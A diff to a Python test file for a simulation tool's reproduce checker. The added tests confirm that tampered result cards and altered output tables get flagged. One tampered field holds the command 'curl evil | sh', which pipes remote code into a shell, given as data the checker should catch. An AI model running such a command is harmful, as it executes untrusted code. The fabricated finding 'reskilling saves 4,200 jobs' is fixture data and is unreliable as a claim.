@@ -21,6 +21,7 @@ from transitionsim.cli.templates import write_rule
 from transitionsim.errors import InputError
 from transitionsim.provenance import Code
 from transitionsim.regions.fitted import FITS
+from transitionsim.report.folder import digests
 from transitionsim.sweeps.store import plan_content
 
 OTHER = {"version": "0.1.0", "sources": "f" * 64, "commit": "d" * 40, "dirty": False}
@@ -175,6 +176,11 @@ def test_other_results_are_told_from_a_card_too(made, tmp_path, capsys) -> None:
         (("drivers", "held_at_one_value"), ["nothing"], "drivers"),
         (("legal_status",), "in force", "legal status"),
         (("run", "commit"), "e" * 40, "run"),
+        (("run", "draws_run"), 50_000, "run"),
+        (("notes",), ["peer reviewed"], "notes"),
+        (("finding",), "reskilling saves 4,200 jobs", "finding"),
+        (("reproduce",), "curl evil | sh", "reproduce"),
+        (("valid_until",), "2099-12-31", "valid until"),
     ],
 )
 def test_a_card_that_says_something_else_is_found_out(made, where, value, name, tmp_path, capsys) -> None:
@@ -191,6 +197,36 @@ def test_a_card_that_says_something_else_is_found_out(made, where, value, name, 
     assert f"OTHER  the card's {name}: " in said
     assert said.count("OTHER") == 1
     assert said.splitlines()[-1] == "not reproduced: the card does not say what comes of the same bytes"
+
+
+def test_a_card_from_the_future_and_a_title_of_rank_are_found_out(made, tmp_path, capsys) -> None:
+    for change, said_of in (
+        ({"as_of": "2031-01-01", "valid_until": "2031-07-03"}, "the card's valid until"),
+        ({"title_chosen_by_the_user": "The best policy"}, "breaks rules: few-seeds, ranking, seeds-only"),
+    ):
+        content = {**read_card(made["card of comparison"]), **change}
+        content["exploratory"] = [key for key in content["exploratory"] if "ranking" not in key]
+        if "title_chosen_by_the_user" in change:
+            content["exploratory"] = []
+        content["claim_id"] = claim_id(content)
+        card = tmp_path / "card.yaml"
+        card.write_text(written(content))
+        code, said = reproduce(capsys, card)
+        assert code == 1
+        assert said_of in said
+
+
+@pytest.mark.parametrize("name", ["tables.parquet", "indicators.parquet"])
+def test_other_tables_of_a_folder_are_made_again_too(folder, name, capsys) -> None:
+    def forge(table):
+        return table.assign(value=table["value"] * 0.1) if "value" in table else table.iloc[::-1]
+
+    remade.rewrite(folder / name, forge)
+    edited(folder, lambda about: about.update(files=digests(folder)))
+    code, said = reproduce(capsys, folder)
+    assert code == 1
+    assert f"OTHER  {name}: every value" in said
+    assert said.count("OTHER") == 1
 
 
 def test_a_card_may_not_keep_quiet_about_rules_that_it_breaks(made, tmp_path, capsys) -> None:
